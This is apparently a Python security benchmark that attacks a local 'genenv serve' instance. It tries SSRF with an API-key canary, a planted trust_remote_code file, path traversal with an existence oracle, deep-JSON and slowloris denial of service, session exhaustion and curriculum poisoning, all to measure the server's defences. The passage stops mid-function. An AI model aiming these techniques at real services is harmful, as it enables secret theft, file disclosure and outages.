"""``genenv serve`` attacked from outside, one attack class at a time, with what each one achieved.

    python benchmarks/serve_attacks.py [--data-dir DIR] [--json out.json]
        [--server-pythonpath DIR] [--only CLASS ...] [--max-seconds 900]

Starts a ``genenv serve`` subprocess on 127.0.0.1 with its default limits (``--server-pythonpath`` runs
another copy of the package, e.g. an older commit unpacked with ``git archive``), plants what the attacks
need in a temporary folder, and tries each class of the issue that asked for this script (#34):

- ``secret``: a Sim env whose simulator is an LLM behind ``openai:m@http://<listener>/v1`` with
  ``api_key_env`` naming a variable set only on the server; did the listener get a request, with the value?
- ``url_fetch``: ``sglang-server:<listener>``: did the server call the listener?
- ``remote_code``: ``hf:<planted model folder>`` with ``trust_remote_code``: did its Python run?
- ``file_split``: TravelPlanner ``split`` pointing outside the data dir: did a planted file's text come back?
- ``file_task``: an ALFWorld ``options.task`` whose ``evaluation.split``/``game`` point at a planted game:
  was it played, and do a planted path and a missing one answer differently (an existence oracle)?
- ``global_filler``: BFCL multi-turn ``official_filler`` naming a planted file: did another session's
  episode change?
- ``stall``: a Sim env with ``batch_size`` 40,000, then the costliest request the server still accepts
  (Sim-ALFWorld resets at the largest batch it takes); an honest session's worst request latency meanwhile.
- ``errors``: JSON nested 100,000 deep (HTTP and WebSocket), invalid ``options.task``, a lone surrogate in an
  action the env echoes (that step's status, the next step's, ``step_count``; the WebSocket session after).
- ``protocol``: an HTTP step before reset; a connection that sends nothing, one that drips its headers, one
  that drips its body (seconds until the server closes it, capped at ``--slow-cap``); server paths in the
  error messages of every class.

Prints one JSON line per class and a table. Every wait is bounded.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

CANARY_VAR = "GENENV_ATTACK_CANARY"
CANARY_VALUE = "canary-7f3a9c"
ATTACKER = "127.0.1.2"  # another /24 than the honest 127.0.0.1: another client
HONEST_ID = "GenEnv-APIBank-Dialogue-v0"
SERVED = [
    "GenEnv-Sim-Digits-v0",
    "GenEnv-TravelPlanner-v0",
    "GenEnv-ALFWorld-v0",
    "GenEnv-Sim-ALFWorld-v0",
    "GenEnv-BFCL-MultiTurnLongContext-v0",
    "GenEnv-TravelPlanner-Tools-v0",
    HONEST_ID,
    "GenEnv-BFCL-v0",
]


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class Server:
    """A ``genenv serve`` subprocess with the canary variable in its environment only."""

    def __init__(self, data_dir: str, pythonpath: str | None, extra: list[str]) -> None:
        self.port = free_port()
        env = dict(os.environ, **{CANARY_VAR: CANARY_VALUE})
        if pythonpath:
            env["PYTHONPATH"] = pythonpath
        command = [sys.executable, "-m", "genenv_gym.cli", "serve", "--port", str(self.port)]
        command += ["--data-dir", data_dir, *[f"--env={i}" for i in SERVED], *extra]
        self.log = tempfile.TemporaryFile()  # noqa: SIM115  (open while the server runs)
        # from that copy's folder: ``python -m`` puts the working directory first on the import path
        self.process = subprocess.Popen(command, env=env, stdout=self.log, stderr=self.log, cwd=pythonpath)
        self.url = f"http://127.0.0.1:{self.port}"
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                if call("GET", self.url, "/health", timeout=5)[0] == 200:
                    return
            if self.process.poll() is not None:
                break
            time.sleep(0.2)
        self.stop()
        raise RuntimeError("the server did not start")

    def alive(self) -> bool:
        return self.process.poll() is None

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()


def call(
    method: str,
    url: str,
    path: str,
    body: Any = None,
    raw: bytes | None = None,
    source: str | None = None,
    timeout: float = 120,
) -> tuple[int, Any, float]:
    """One request on a fresh connection: (status, decoded JSON or text, seconds); status 0 when the
    connection failed or timed out."""
    host, port = url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(
        host, int(port), timeout=timeout, source_address=(source, 0) if source else None
    )
    data = raw if raw is not None else (None if body is None else json.dumps(body).encode())
    start = time.perf_counter()
    try:
        conn.request(method, path, body=data, headers={"Content-Type": "application/json"})
        response = conn.getresponse()
        text = response.read()
        seconds = time.perf_counter() - start
        try:
            return response.status, json.loads(text), seconds
        except ValueError:
            return response.status, text.decode(errors="replace")[:500], seconds
    except (OSError, http.client.HTTPException) as error:
        return 0, f"{type(error).__name__}: {error}", time.perf_counter() - start
    finally:
        conn.close()


class Listener:
    """A loopback HTTP server that records every request it gets (method, path, headers)."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(length)
                outer.requests.append(
                    {"method": self.command, "path": self.path, "headers": dict(self.headers)}
                )
                self.send_response(500)
                self.end_headers()

            do_GET = do_POST = _record

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def messages(*answers: tuple[int, Any, float]) -> list[str]:
    return [json.dumps(a[1]) if not isinstance(a[1], str) else a[1] for a in answers]


# ------------------------------------------------------------------------------------------------------
def attack_secret(server: Server, planted: Path) -> dict[str, Any]:
    listener = Listener()
    try:
        kwargs = {
            "simulator": "llm",
            "simulator_kwargs": {
                "backend": f"openai:m@{listener.url}/v1",
                "backend_kwargs": {"api_key_env": CANARY_VAR},
            },
        }
        answer = call(
            "POST", server.url, "/envs/GenEnv-Sim-Digits-v0/reset", {"env_kwargs": kwargs}, timeout=180
        )
        got = listener.requests
        return {
            "status": answer[0],
            "listener_requests": len(got),
            "secret_sent": any(CANARY_VALUE in json.dumps(r["headers"]) for r in got),
            "messages": messages(answer),
        }
    finally:
        listener.close()


def attack_url_fetch(server: Server, planted: Path) -> dict[str, Any]:
    listener = Listener()
    try:
        kwargs = {"simulator": "llm", "simulator_kwargs": {"backend": f"sglang-server:{listener.url}"}}
        answer = call(
            "POST", server.url, "/envs/GenEnv-Sim-Digits-v0/reset", {"env_kwargs": kwargs}, timeout=180
        )
        return {
            "status": answer[0],
            "listener_requests": len(listener.requests),
            "messages": messages(answer),
        }
    finally:
        listener.close()


def plant(folder: Path) -> None:
    """The planted model folder, TravelPlanner split file, ALFWorld game and BFCL filler file."""
    model = folder / "model"
    model.mkdir()
    (model / "config.json").write_text(
        json.dumps(
            {
                "model_type": "planted",
                "auto_map": {
                    "AutoConfig": "configuration_planted.PlantedConfig",
                    "AutoModelForCausalLM": "configuration_planted.PlantedConfig",
                },
            }
        )
    )
    (model / "configuration_planted.py").write_text(
        f"open({str(folder / 'remote_code_ran')!r}, 'w').write('ran')\n"
        "from transformers import PretrainedConfig\n"
        "class PlantedConfig(PretrainedConfig):\n    model_type = 'planted'\n"
    )
    from genenv_gym.envs.travelplanner.domain import split_file

    rows = split_file("train").read_text(encoding="utf-8").splitlines()
    record = json.loads(rows[0])
    record["query"] = "PLANTED-QUERY " + str(record.get("query", ""))
    (folder / "planted.jsonl").write_text(json.dumps(record) + "\n")
    games = sorted((Path(os.environ["GENENV_DATA_DIR"]) / "alfworld/json_2.1.1/valid_unseen").glob("*/*"))
    game = folder / "alfworld" / "planted_task" / "trial_0"
    game.mkdir(parents=True)
    shutil.copy(games[0] / "game.tw-pddl", game / "game.tw-pddl")
    from genenv_gym.envs.bfcl_multiturn import long_context

    lines = []
    for name, value in long_context._generate().items():
        lines.append(f"{name} = {_marked(value)!r}")
    (folder / "long_context.py").write_text("\n".join(lines) + "\n")


def _marked(value: Any) -> Any:
    if isinstance(value, str):
        return "PLANTED-" + value
    if isinstance(value, list):
        return [_marked(v) for v in value]
    if isinstance(value, dict):
        return {k: _marked(v) for k, v in value.items()}
    return value


def attack_remote_code(server: Server, planted: Path) -> dict[str, Any]:
    kwargs = {
        "simulator": "llm",
        "simulator_kwargs": {
            "backend": f"hf:{planted / 'model'}",
            "backend_kwargs": {"trust_remote_code": True},
        },
    }
    answer = call("POST", server.url, "/envs/GenEnv-Sim-Digits-v0/reset", {"env_kwargs": kwargs}, timeout=180)
    return {
        "status": answer[0],
        "code_ran": (planted / "remote_code_ran").exists(),
        "messages": messages(answer),
    }


def attack_file_split(server: Server, planted: Path) -> dict[str, Any]:
    root = Path(os.environ["GENENV_DATA_DIR"]).resolve() / "travelplanner"
    relative = os.path.relpath(planted / "planted", root)
    results = {}
    for name, split in (("relative", relative), ("absolute", str(planted / "planted"))):
        answer = call(
            "POST",
            server.url,
            "/envs/GenEnv-TravelPlanner-v0/reset",
            {"env_kwargs": {"split": split}, "seed": 0},
        )
        results[name] = {"status": answer[0], "planted_text_served": "PLANTED-QUERY" in json.dumps(answer[1])}
        results[name]["message"] = messages(answer)[0][:300]
    return {
        "statuses": [results["relative"]["status"], results["absolute"]["status"]],
        "planted_text_served": results["relative"]["planted_text_served"]
        or results["absolute"]["planted_text_served"],
        "messages": [results["relative"]["message"], results["absolute"]["message"]],
    }


def _alfworld_task(split: str, game: str) -> dict[str, Any]:
    return {
        "id": "planted",
        "domain": "alfworld",
        "category": "pick_and_place_simple",
        "evaluation": {"split": split, "game": game, "goal": "put a planted thing in a planted place"},
    }


def attack_file_task(server: Server, planted: Path) -> dict[str, Any]:
    base = Path(os.environ["GENENV_DATA_DIR"]).resolve() / "alfworld" / "json_2.1.1"
    split = os.path.relpath(planted / "alfworld", base)
    played = call(
        "POST",
        server.url,
        "/envs/GenEnv-ALFWorld-v0/reset",
        {"options": {"task": _alfworld_task(split, "planted_task/trial_0")}},
    )
    missing = call(
        "POST",
        server.url,
        "/envs/GenEnv-ALFWorld-v0/reset",
        {"options": {"task": _alfworld_task(split, "no_such_task/trial_0")}},
    )
    return {
        "statuses": [played[0], missing[0]],
        "planted_game_played": played[0] == 200,
        "existence_oracle": (played[0], _code(played)) != (missing[0], _code(missing)),
        "messages": messages(played, missing),
    }


def _code(answer: tuple[int, Any, float]) -> Any:
    return answer[1].get("code") if isinstance(answer[1], dict) else None


def attack_global_filler(server: Server, planted: Path) -> dict[str, Any]:
    import gymnasium as gym

    import genenv_gym  # noqa: F401
    from genenv_gym.serve.transcript import record, scripted_actions

    env_id = "GenEnv-BFCL-MultiTurnLongContext-v0"
    local = gym.make(env_id)
    scripts = [scripted_actions(local, "oracle", seed=seed) for seed in range(4)]
    local.close()
    honest = gym.make("GenEnv-Remote-v0", url=server.url, env_id=env_id, transport="http")
    try:
        before = [record(honest, s.actions, seed=seed) for seed, s in enumerate(scripts)]
        attack = call(
            "POST",
            server.url,
            f"/envs/{env_id}/reset",
            {"env_kwargs": {"official_filler": str(planted / "long_context.py")}},
            source=ATTACKER,
        )
        after = [record(honest, s.actions, seed=seed) for seed, s in enumerate(scripts)]
    finally:
        honest.close()
    return {
        "status": attack[0],
        "honest_episodes_changed": sum(a != b for a, b in zip(after, before, strict=True)),
        "honest_episodes": len(before),
        "planted_text_in_honest_episode": any("PLANTED-" in json.dumps(str(a)) for a in after),
        "messages": messages(attack),
    }


class HonestPlayer:
    """A WebSocket session playing resets and steps in a loop, each request's latency recorded."""

    def __init__(self, url: str, timeout_s: float) -> None:
        self.url = url
        self.timeout_s = timeout_s
        self.latencies: list[float] = []
        self.errors: list[str] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self) -> None:
        from websockets.sync.client import connect

        ws_url = self.url.replace("http://", "ws://") + f"/envs/{HONEST_ID}/ws"
        try:
            with connect(ws_url, open_timeout=60, max_size=None) as ws:
                seed = 0
                while not self.stop.is_set():
                    for message in (
                        {"type": "reset", "data": {"seed": seed}},
                        {"type": "step", "data": {"text": "hi"}},
                    ):
                        start = time.perf_counter()
                        ws.send(json.dumps(message))
                        answer = json.loads(ws.recv(timeout=self.timeout_s))
                        self.latencies.append(time.perf_counter() - start)
                        if answer["type"] == "error":
                            self.errors.append(answer["data"]["code"])
                    seed += 1
        except Exception as error:  # the session was lost
            self.errors.append(f"lost: {type(error).__name__}: {error}")

    def __enter__(self) -> HonestPlayer:
        self.thread.start()
        time.sleep(1.0)  # a quiet second first
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join(self.timeout_s + 5)

    def figures(self) -> dict[str, Any]:
        ordered = sorted(self.latencies)
        return {
            "honest_requests": len(ordered),
            "honest_max_s": round(ordered[-1], 3) if ordered else None,
            "honest_p99_s": round(ordered[int(0.99 * (len(ordered) - 1))], 3) if ordered else None,
            "honest_errors": self.errors[:5],
        }


def attack_stall(server: Server, planted: Path, cap_s: float) -> dict[str, Any]:
    result: dict[str, Any] = {}
    with HonestPlayer(server.url, cap_s) as honest:
        huge = call(
            "POST",
            server.url,
            "/envs/GenEnv-Sim-Digits-v0/reset",
            {"env_kwargs": {"batch_size": 40_000}},
            source=ATTACKER,
            timeout=cap_s,
        )
    result["huge_batch"] = {"status": huge[0], "seconds": round(huge[2], 2), **honest.figures()}
    # the costliest request still accepted: Sim-ALFWorld resets (the planner proves each proposal) at the
    # largest batch the server takes, from four attacker connections at once
    sizes = [64, 32, 16, 8, 4, 2, 1]
    accepted = next(
        (
            b
            for b in sizes
            if call(
                "POST",
                server.url,
                "/envs/GenEnv-Sim-ALFWorld-v0/sessions",
                {"env_kwargs": {"batch_size": b}},
                source=ATTACKER,
            )[0]
            == 201
        ),
        None,
    )
    with HonestPlayer(server.url, cap_s) as honest:
        answers: list[tuple[int, Any, float]] = []

        def heavy() -> None:
            answers.append(
                call(
                    "POST",
                    server.url,
                    "/envs/GenEnv-Sim-ALFWorld-v0/reset",
                    {"env_kwargs": {"batch_size": accepted}},
                    source=ATTACKER,
                    timeout=cap_s,
                )
            )

        threads = [threading.Thread(target=heavy) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(cap_s + 5)
    result["heaviest_accepted"] = {
        "batch_size": accepted,
        "statuses": sorted(a[0] for a in answers),
        "seconds": sorted(round(a[2], 1) for a in answers),
        **honest.figures(),
    }
    result["messages"] = messages(huge, *answers)
    return result


def _deep(depth: int) -> bytes:
    return b'{"seed": ' + b"[" * depth + b"]" * depth + b"}"


def attack_errors(server: Server, planted: Path) -> dict[str, Any]:
    from websockets.sync.client import connect

    out: dict[str, Any] = {}
    deep = call("POST", server.url, f"/envs/{HONEST_ID}/reset", raw=_deep(100_000))
    out["deep_json_http"] = deep[0]
    ws_url = server.url.replace("http://", "ws://")
    try:
        with connect(f"{ws_url}/envs/{HONEST_ID}/ws", max_size=None) as ws:
            ws.send(b'{"type": "reset", "data": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
            answer = json.loads(ws.recv(timeout=30))
            ws.send(json.dumps({"type": "reset", "data": {"seed": 0}}))
            after = json.loads(ws.recv(timeout=30))
            out["deep_json_ws"] = (
                f"{answer['type']}:{answer.get('data', {}).get('code')}, then {after['type']}"
            )
    except Exception as error:
        out["deep_json_ws"] = f"session dropped ({type(error).__name__})"
    empty = call("POST", server.url, "/envs/GenEnv-ALFWorld-v0/reset", {"options": {"task": {}}})
    unknown = call(
        "POST",
        server.url,
        "/envs/GenEnv-ALFWorld-v0/reset",
        {"options": {"task": {"id": "x", "domain": "alfworld", "bogus": 1}}},
    )
    out["bad_task"] = [empty[0], unknown[0]]
    # a lone surrogate in an action that TravelPlanner's tool env echoes
    env_id = "GenEnv-TravelPlanner-Tools-v0"
    opened = call("POST", server.url, f"/envs/{env_id}/sessions", {})
    sid = opened[1]["session_id"]
    call("POST", server.url, f"/envs/{env_id}/reset", {"seed": 0, "session_id": sid})
    lone = json.dumps({"action": {"text": "Nope[\udc80]"}, "session_id": sid}).encode()
    first = call("POST", server.url, f"/envs/{env_id}/step", raw=lone)
    second = call(
        "POST", server.url, f"/envs/{env_id}/step", {"action": {"text": "Nope[x]"}, "session_id": sid}
    )
    state = call("GET", server.url, f"/envs/{env_id}/state?session_id={sid}")
    out["surrogate_http"] = {
        "statuses": [first[0], second[0]],
        "step_count_after": state[1].get("step_count") if isinstance(state[1], dict) else None,
    }
    try:
        with connect(f"{ws_url}/envs/{env_id}/ws", max_size=None) as ws:
            ws.send(json.dumps({"type": "reset", "data": {"seed": 0}}))
            ws.recv(timeout=30)
            ws.send('{"type": "step", "data": {"text": "Nope[\\udc80]"}}')
            answer = json.loads(ws.recv(timeout=30))
            ws.send(json.dumps({"type": "step", "data": {"text": "Nope[x]"}}))
            after = json.loads(ws.recv(timeout=30))
            out["surrogate_ws"] = (
                f"{answer['type']}:{answer.get('data', {}).get('code')}, then {after['type']}"
            )
    except Exception as error:
        out["surrogate_ws"] = f"session dropped ({type(error).__name__})"
    out["messages"] = messages(deep, empty, unknown, first, second)
    return out


def _held_open(port: int, sender: Any, cap_s: float) -> float | None:
    """Seconds until the server closes a connection fed by ``sender`` (None: still open at ``cap_s``)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=1)
    start = time.monotonic()
    try:
        while time.monotonic() - start < cap_s:
            try:
                if sender(sock, time.monotonic() - start) is False:
                    pass
                data = sock.recv(65536)
                if data == b"":
                    return round(time.monotonic() - start, 1)
                if data:  # an answer (408, 400): read until it closes
                    continue
            except TimeoutError:
                continue
            except (ConnectionResetError, BrokenPipeError):
                return round(time.monotonic() - start, 1)
        return None
    finally:
        sock.close()


def attack_protocol(server: Server, planted: Path, cap_s: float) -> dict[str, Any]:
    opened = call("POST", server.url, f"/envs/{HONEST_ID}/sessions", {})
    sid = opened[1]["session_id"]
    early = call("POST", server.url, f"/envs/{HONEST_ID}/step", {"action": {"text": "hi"}, "session_id": sid})
    header = b"POST /envs/%s/reset HTTP/1.1\r\nHost: x\r\nX-Drip: " % HONEST_ID.encode()
    sent = {"headers": 0, "body": 0}

    def nothing(sock: socket.socket, elapsed: float) -> None:
        pass

    def drip_headers(sock: socket.socket, elapsed: float) -> None:
        if sent["headers"] == 0:
            sock.sendall(header)
        sock.sendall(b"a")
        sent["headers"] += 1

    def drip_body(sock: socket.socket, elapsed: float) -> None:
        if sent["body"] == 0:
            sock.sendall(
                b"POST /envs/%s/reset HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Content-Length: 100000\r\n\r\n" % HONEST_ID.encode()
            )
        sock.sendall(b" ")
        sent["body"] += 1

    idle = _held_open(server.port, nothing, cap_s)
    headers = _held_open(server.port, drip_headers, cap_s)
    body = _held_open(server.port, drip_body, cap_s)
    return {
        "step_before_reset": early[0],
        "idle_connection_closed_after_s": idle,
        "dripped_headers_closed_after_s": headers,
        "dripped_body_closed_after_s": body,
        "messages": messages(early),
    }


# -- issue #45: cheap requests that cost a lot, many addresses, the small ones ------------------------------
def tiny_values(size: int) -> bytes:
    """A step body of about ``size`` bytes that is almost all empty JSON objects."""
    return b'{"action": {"text": "x", "metadata": {"a": [' + b",".join([b"{}"] * (size // 3)) + b"]}}}"


def attack_amplify(server: Server, planted: Path) -> dict[str, Any]:
    """8 MiB (less 1 KiB) of ``{}`` items, three times over HTTP and once as a WebSocket reset, while
    ``GET /health`` is asked in a loop and an honest session plays."""
    from websockets.sync.client import connect

    body = tiny_values(8 * 1024 * 1024 - 1024)
    health: list[float] = []
    done = threading.Event()

    def poll() -> None:
        while not done.is_set():
            health.append(call("GET", server.url, "/health", timeout=120)[2])

    poller = threading.Thread(target=poll, daemon=True)
    with HonestPlayer(server.url, 120) as honest:
        poller.start()
        answers = [
            call("POST", server.url, f"/envs/{HONEST_ID}/step", raw=body, source=ATTACKER) for _ in range(3)
        ]
        start = time.perf_counter()
        with connect(server.url.replace("http://", "ws://") + f"/envs/{HONEST_ID}/ws", max_size=None) as ws:
            ws.send(b'{"type": "reset", "data": {"options": ' + body[37:-2] + b"}}")
            ws_answer = json.loads(ws.recv(timeout=120))
        ws_seconds = time.perf_counter() - start
        done.set()
        poller.join(120)
    return {
        "http_status": [a[0] for a in answers],
        "http_seconds": [round(a[2], 2) for a in answers],
        "ws_answer": ws_answer["data"].get("code") if ws_answer["type"] == "error" else ws_answer["type"],
        "ws_seconds": round(ws_seconds, 2),
        "health_max_s": round(max(health), 3) if health else None,
        "health_requests": len(health),
        **honest.figures(),
        "messages": messages(*answers),
    }


def parallel_task(n: int) -> dict[str, Any]:
    """A BFCL ``parallel`` task as data with ``n`` expected calls of one function."""
    function = {
        "name": "f",
        "description": "",
        "parameters": {"type": "dict", "properties": {"a": {"type": "integer"}}, "required": ["a"]},
    }
    return {
        "id": f"attack-{n}",
        "domain": "bfcl",
        "messages": [{"role": "user", "content": "call f"}],
        "tools": [function],
        "evaluation": {"ground_truth": [{"f": {"a": [i]}} for i in range(n)], "action_format": "python"},
        "category": "parallel",
    }


def _slow_client(server: Server, source: str, stop: threading.Event, counts: dict[str, Any]) -> None:
    """One attacker address: a BFCL session given 8,000 expected calls, answered in reverse order (the
    plain matcher's worst case), step after step; where the server refuses that task, Sim-ALFWorld resets
    at the largest batch it takes (the costliest call it accepts)."""
    bfcl = "GenEnv-BFCL-v0"
    while not stop.is_set():
        opened = call("POST", server.url, f"/envs/{bfcl}/sessions", {}, source=source)
        if opened[0] != 201:
            counts["refused_open"] += 1
            time.sleep(0.5)
            continue
        sid = opened[1]["session_id"]
        reset = call(
            "POST",
            server.url,
            f"/envs/{bfcl}/reset",
            {"session_id": sid, "options": {"task": parallel_task(8000)}},
            source=source,
        )
        counts["task_status"] = reset[0]
        action = "[" + ", ".join(f"f(a={i})" for i in reversed(range(8000))) + "]"
        while reset[0] == 200 and not stop.is_set():
            answer = call(
                "POST",
                server.url,
                f"/envs/{bfcl}/step",
                {"session_id": sid, "action": {"text": action}},
                source=source,
            )
            counts[str(answer[0])] = counts.get(str(answer[0]), 0) + 1
            if answer[0] != 200:
                break
            call(
                "POST",
                server.url,
                f"/envs/{bfcl}/reset",
                {"session_id": sid, "options": {"task": parallel_task(8000)}},
                source=source,
            )
        call("DELETE", server.url, f"/envs/{bfcl}/sessions/{sid}", source=source)
        if reset[0] != 200:
            sim = "GenEnv-Sim-ALFWorld-v0"
            while not stop.is_set():
                answer = call(
                    "POST", server.url, f"/envs/{sim}/reset", {"env_kwargs": {"batch_size": 4}}, source=source
                )
                counts[f"sim_{answer[0]}"] = counts.get(f"sim_{answer[0]}", 0) + 1


def attack_addresses(server: Server, planted: Path, seconds: float = 40.0) -> dict[str, Any]:
    """1 and 6 attacker addresses, each in its own /24 (127.0.N.7), running the costliest calls they can;
    the honest session's worst request and requests per second."""
    found: dict[str, Any] = {}
    for attackers in (1, 6):
        stop = threading.Event()
        counts: list[dict[str, Any]] = [{"refused_open": 0} for _ in range(attackers)]
        threads = [
            threading.Thread(
                target=_slow_client, args=(server, f"127.0.{30 + k}.7", stop, counts[k]), daemon=True
            )
            for k in range(attackers)
        ]
        with HonestPlayer(server.url, 300) as honest:
            for thread in threads:
                thread.start()
            time.sleep(seconds)
            stop.set()
        figures = honest.figures()
        found[f"{attackers}_attackers"] = {
            **figures,
            "honest_requests_per_s": round(figures["honest_requests"] / (seconds + 1), 1),
            "attackers": counts,
        }
        for thread in threads:
            thread.join(120)
    return found


def attack_sessions(server: Server, planted: Path) -> dict[str, Any]:
    """Two networks open sessions until refused; can a third client still open one?"""
    sim, held = "GenEnv-Sim-Digits-v0", {}
    opened: list[tuple[str, str]] = []
    for source in ("127.0.40.1", "127.0.41.1"):
        held[source] = 0
        while held[source] < 200:
            answer = call("POST", server.url, f"/envs/{sim}/sessions", {}, source=source)
            if answer[0] != 201:
                break
            held[source] += 1
            opened.append((source, answer[1]["session_id"]))
    newcomer = call("POST", server.url, f"/envs/{sim}/sessions", {}, source="127.0.42.1")
    if newcomer[0] == 201:
        opened.append(("127.0.42.1", newcomer[1]["session_id"]))
    for source, sid in opened:
        call("DELETE", server.url, f"/envs/{sim}/sessions/{sid}", source=source)
    return {
        "held_per_network": list(held.values()),
        "newcomer_status": newcomer[0],
        "messages": messages(newcomer),
    }


def attack_small(server: Server, planted: Path, races: int = 60) -> dict[str, Any]:
    """A 309-digit real, steps racing the DELETE of their session, half-sent bodies (log bytes each), an
    over-limit body sent whole (a readable 413, or a reset connection?)."""
    from websockets.sync.client import connect

    sim = "GenEnv-Sim-Digits-v0"
    raw = b'{"env_kwargs": {"skill_decay": 2' + b"0" * 308 + b"}}"
    huge = call("POST", server.url, f"/envs/{sim}/reset", raw=raw, source=ATTACKER)
    try:
        with connect(server.url.replace("http://", "ws://") + f"/envs/{sim}/ws") as ws:
            ws.send(b'{"type": "reset", "data": ' + raw + b"}")
            ws_huge = json.loads(ws.recv(timeout=60))
            ws.send(json.dumps({"type": "state"}))
            ws_after = json.loads(ws.recv(timeout=60))["type"]
        ws_result = f"{ws_huge['data'].get('code', ws_huge['type'])}, then {ws_after}"
    except Exception as error:
        ws_result = f"dropped: {type(error).__name__}"
    statuses: dict[str, int] = {}
    for _ in range(races):
        opened = call("POST", server.url, f"/envs/{sim}/sessions", {}, source=ATTACKER)
        sid = opened[1]["session_id"]
        call("POST", server.url, f"/envs/{sim}/reset", {"session_id": sid}, source=ATTACKER)
        stepped: list[Any] = []
        body = {"session_id": sid, "action": {"text": "1"}}
        thread = threading.Thread(
            target=lambda out=stepped, body=body: out.append(
                call("POST", server.url, f"/envs/{sim}/step", body, source=ATTACKER)
            )
        )
        thread.start()
        call("DELETE", server.url, f"/envs/{sim}/sessions/{sid}", source=ATTACKER)
        thread.join(60)
        key = f"{stepped[0][0]} {_code(stepped[0]) or ''}".strip()
        statuses[key] = statuses.get(key, 0) + 1
    server.log.flush()
    before = os.fstat(server.log.fileno()).st_size
    for _ in range(20):
        with socket.create_connection(("127.0.0.1", server.port)) as sock:
            sock.sendall(
                b"POST /envs/%s/step HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{" % sim.encode()
            )
    time.sleep(1.0)
    log_bytes = (os.fstat(server.log.fileno()).st_size - before) / 20
    over = 8 * 1024 * 1024 + 1
    try:
        with socket.create_connection(("127.0.0.1", server.port), timeout=60) as sock:
            head = b"POST /envs/%s/step HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (
                sim.encode(),
                over,
            )
            sock.sendall(head + b" " * over)
            reply = sock.recv(4096)
        over_limit = reply.split(b"\r\n", 1)[0].decode()
    except OSError as error:
        over_limit = f"{type(error).__name__}"
    return {
        "huge_real_http": f"{huge[0]} {_code(huge) or ''}".strip(),
        "huge_real_ws": ws_result,
        "step_racing_delete": statuses,
        "log_bytes_per_half_sent_body": round(log_bytes),
        "over_limit_body": over_limit,
        "messages": messages(huge),
    }


def _capture(policy: Any, attacker_sessions: int, rounds: int = 150) -> dict[str, Any]:
    """A hosted Sim-Digits curriculum (``HostedCurricula``, the code that answers the sessions' calls, in
    this process) played by 4 honest clients whose agent solves strings of up to 4 digits, before, during
    and after one attacker client (``attacker_sessions`` sessions) whose reports pull it up: 2 of 4 wins on
    levels >= 12, 4 of 4 below. Per phase: the honest success and their episodes served at levels >= 12;
    ``after_last_50``: the last 50 rounds after it left (where the curriculum came back to, if it did)."""
    from genenv_gym.serve.curricula import CurriculumSpec, HostedCurricula

    curricula = HostedCurricula([CurriculumSpec("d", "GenEnv-Sim-Digits-v0")], lambda _: {}, policy=policy)
    curricula.start()
    size = curricula._hosted["d"].group_size

    def group(session: str, client: str, outcome: Any) -> tuple[int, int]:
        asked = curricula.answer(session, "d", json.dumps({"method": "propose", "n": 1}).encode(), client)
        proposal = asked["proposals"][0]
        task = json.loads(proposal["task"])
        level, wins = int(task["difficulty"].get("level", 0)), outcome(task)
        for k in range(size):
            record = {"method": "record", "proposal_id": proposal["proposal_id"], "success": k < wins}
            curricula.answer(session, "d", json.dumps(record).encode(), client)
        return level, wins

    def honest(task: dict) -> int:
        return size if len(task["evaluation"]["answer"]) <= 4 else 0

    def attacker(task: dict) -> int:
        return size // 2 if int(task["difficulty"].get("level", 0)) >= 12 else size

    phases: dict[str, Any] = {}
    try:
        for phase in ("before", "during", "after"):
            served = []
            for _ in range(rounds):
                for k in range(4):
                    served.append(group(f"honest-{k}", f"net:honest-{k}", honest))
                if phase == "during":
                    for k in range(attacker_sessions):
                        group(f"attacker-{k}", "net:attacker", attacker)
            if phase == "during":
                for k in range(attacker_sessions):
                    curricula.forget(f"attacker-{k}", "d")
            phases[phase] = _honest(served, size)
        phases["after_last_50"] = _honest(served[-50 * 4 :], size)
        phases["flagged"] = curricula.state("d")["influence"]["flagged"]
    finally:
        curricula.close(checkpoint=False)
    return phases


def _honest(served: list[tuple[int, int]], size: int) -> dict[str, float]:
    """The honest clients' success and their share of episodes at levels >= 12, of (level, wins) groups."""
    return {
        "honest_success": round(sum(w for _, w in served) / (size * len(served)), 3),
        "honest_served_levels_ge_12": round(sum(lv >= 12 for lv, _ in served) / len(served), 3),
    }


def attack_curriculum(server: Server, planted: Path) -> dict[str, Any]:
    """One attacker steering a hosted curriculum, with 1 and 8 sessions: without the influence bound (a
    share of 1, flags ignored, no decay: every group counts and its pull stays, as before #45), with the
    share and the decay (flags ignored), with the default bound but no decay, and with the default bound
    (the share, flagged clients held back, the pull of every group halving over 64 counted groups)."""
    from genenv_gym.serve.curriculum_influence import InfluencePolicy

    return {
        f"{sessions}_sessions_{name}": _capture(policy, sessions)
        for sessions in (1, 8)
        for name, policy in (
            ("unbounded", InfluencePolicy(share=1.0, hold_flagged=False, half_life=None)),
            ("share_and_decay", InfluencePolicy(hold_flagged=False)),
            ("bounded_no_decay", InfluencePolicy(half_life=None)),
            ("bounded", InfluencePolicy()),
        )
